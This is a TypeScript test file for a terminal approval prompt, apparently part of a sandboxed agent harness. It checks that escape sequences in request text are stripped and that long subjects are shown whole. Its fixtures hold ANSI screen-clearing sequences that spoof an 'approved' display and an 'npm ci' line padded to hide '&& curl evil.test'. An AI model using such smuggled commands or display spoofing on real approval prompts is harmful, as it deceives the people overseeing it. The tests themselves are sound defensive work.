import { stripVTControlCharacters } from 'node:util';
import { afterEach, expect, test, vi } from 'vitest';
import { newId } from '../ids.ts';
import type { ApprovalRequest } from '../approvals/approval.ts';
import { terminalApprover } from './ask-approval.ts';
import { approvalLines } from './drive/approvals.ts';

const request: ApprovalRequest = {
  id: newId(),
  run: newId(),
  category: 'dependency',
  at: 'call',
  subject: 'npm ci \u001b[2J\u001b[1;1Happroved',
  rule: 'r\u001b[31m',
  reach: 'a \u001b]0;title\u0007',
  note: '',
  quorum: 1,
  reasonRequired: false,
  digest: `sha256:${'a'.repeat(64)}`,
  askedAt: new Date(0).toISOString(),
  expiresAt: new Date(1).toISOString(),
};
const { signal } = new AbortController();

afterEach(() => {
  vi.restoreAllMocks();
});

function shown(): () => string {
  const written: string[] = [];
  vi.spyOn(process.stderr, 'write').mockImplementation((text) => {
    written.push(String(text));
    return true;
  });
  return () => written.join('');
}

test('what was approved on the command line is approved, and nothing else where there is no terminal', async () => {
  shown();
  const approver = terminalApprover(['dependency'], false);
  expect(await approver?.(request, signal)).toMatchObject([{ approve: true, reason: 'approved on the command line' }]);
  expect(await approver?.({ ...request, category: 'secrets' }, signal)).toMatchObject([{ approve: false }]);
});

test('without a terminal and without categories nobody can be asked', () => {
  expect(terminalApprover([], false)).toBeUndefined();
});

test('what is asked is shown whole, however long its lines and however many', async () => {
  const hidden = `${'npm ci '.repeat(60)}&& curl evil.test`;
  const subject = [...Array.from({ length: 60 }, (_, n) => `line ${n}`), hidden].join('\n');
  const text = shown();
  await terminalApprover(['dependency'], false)?.({ ...request, subject }, signal);
  const listed = approvalLines({ ...request, subject, state: 'pending', verdicts: [] }).join('\n');
  for (const whole of [text(), listed]) {
    const quoted = stripVTControlCharacters(whole)
      .split('\n')
      .flatMap((line) => /^ {4}│ (.*)$/.exec(line)?.[1] ?? []);
    expect(quoted.slice(0, 60)).toEqual(subject.split('\n').slice(0, 60));
    expect(quoted.slice(60).join('')).toBe(hidden);
  }
});

test('text from the sandbox cannot act on the terminal', async () => {
  const text = shown();
  await terminalApprover(['dependency'], false)?.(request, signal);
  expect(text()).toContain('npm ci ');
  for (const sequence of ['\u001b[2J', '\u001b[1;1H', '\u001b]0;', '\u0007']) expect(text()).not.toContain(sequence);
});
